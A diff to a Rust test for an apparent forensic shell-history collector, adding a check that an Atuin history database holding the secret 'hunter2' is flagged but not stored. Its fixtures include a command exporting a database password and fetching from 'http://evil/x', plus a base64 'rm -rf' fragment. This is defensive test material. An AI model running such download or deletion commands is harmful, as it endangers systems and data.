@@ -112,6 +112,7 @@ mod tests {
             ("home/ann/.python_history", b"import os\n"),
             ("home/ann/.lesshst", b".less-history-file:\n"),
             ("home/gone/.bash_history", b"whoami\n"),
+            ("home/ann/.local/share/atuin/history.db", b"SQLite format 3\0 hunter2"),
         ]);
         assert_eq!((outcome, evidence.gaps.len()), (Outcome::ok(), 0));
         let mut rows: Vec<_> = evidence.rows("shell_history").to_vec();
@@ -124,6 +125,9 @@ mod tests {
         assert_eq!(shown[4], (Some(0), Some(1_700_000_000), Some("export DB_PASSWORD=xxxxxxxx wget http://evil/x")));
         assert_eq!((&rows[5]["command_b64"], &rows[3]["username"]), (&"cm0gLXJmIBv/".into(), &serde_json::Value::Null));
         assert!(evidence.member("/home/ann/.lesshst").is_some());
+        let database = evidence.rows("history_files").iter().find(|row| row["kind"] == "database").unwrap();
+        assert_eq!((&database["secret"], &database["size"], &database["stored"]), (&1.into(), &24.into(), &0.into()));
+        assert_eq!(evidence.member("/home/ann/.local/share/atuin/history.db"), None);
         assert!(!evidence.member("/root/.bash_history").unwrap().windows(7).any(|w| w == b"hunter2"));
     }
 
